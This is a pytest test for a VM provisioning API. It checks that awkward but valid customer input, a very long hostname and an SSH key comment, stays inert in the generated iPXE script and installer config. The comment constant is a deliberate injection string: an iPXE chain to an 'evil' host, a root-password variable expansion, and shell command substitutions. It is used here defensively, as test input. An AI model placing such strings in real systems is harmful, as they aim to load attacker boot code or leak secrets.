"""Values that pass validation render inertly: created through the API by a customer with the
most awkward accepted values, they cannot add a line, a key or an iPXE expansion to what an
installer reads."""

from __future__ import annotations

import re
from typing import Any

from tests.api.helpers import H
from tests.installs_helpers import ed25519_key

GiB = 1024**3
PUBLIC = "http://virtapi.example.com:8080"
AWKWARD_HOST = "x-" + "9" * 59 + "a.c1001.example.net"  # a 62-character first label
COMMENT = "${root-password} ; #!ipxe chain http://evil/ %{facts.x} 'q' \"d\" `cmd` $(cmd)"


def test_awkward_but_valid_values_render_inertly(
    app: Any, client: Any, api_tokens: Any, demo: Any
) -> None:
    app.config.update(PXE_PUBLIC_URL=PUBLIC, PXE_ALLOWED_NETWORKS=[])
    customer = H(api_tokens.customer_a)
    vm = client.post("/api/v1/vms", headers=customer, json={
        "hostname": AWKWARD_HOST, "cores": 1, "ram": GiB,
        "interfaces": [{"ipv4_network_id": 2}],
        "disks": [{"size": 10 * GiB, "storage_type": "ceph", "ceph_pool": "rbd"}],
    })  # fmt: skip
    assert vm.status_code == 201, vm.json
    key = ed25519_key("inert", COMMENT)
    install = client.post(f"/api/v1/vms/{vm.json['id']}/install", headers=customer,
                          json={"image": "debian-12", "ssh_keys": [key]})  # fmt: skip
    assert install.status_code == 201, install.json

    mac = vm.json["interfaces"][0]["mac"]
    script = client.get(f"/pxe/{mac}?uuid={vm.json['uuid']}").get_data(as_text=True)
    lines = script.splitlines()
    assert [line.split(" ", 1)[0] for line in lines] == ["#!ipxe", "#", "kernel", "initrd", "boot"]
    assert "${" not in script and AWKWARD_HOST in lines[1]

    config_url = re.search(r" installimage=(\S+) ", script).group(1)  # type: ignore[union-attr]
    path = config_url.removeprefix(PUBLIC)
    config = client.get(path).get_data(as_text=True)
    known = {"#", "DRIVE1", "SWRAID", "BOOTLOADER", "HOSTNAME", "PART", "LV", "IMAGE",
             "IMAGE_CHECKSUM", "SSHKEYS_URL", "ROOT_PASSWORD_HASH", "ADDRESS"}  # fmt: skip
    assert {line.split(" ", 1)[0] for line in config.splitlines()} <= known, config
    assert f"HOSTNAME {AWKWARD_HOST}\n" in config
    assert COMMENT not in config  # keys are served separately, one per line
    keys = client.get(f"{path}/authorized_keys").get_data(as_text=True)
    assert keys == key + "\n"
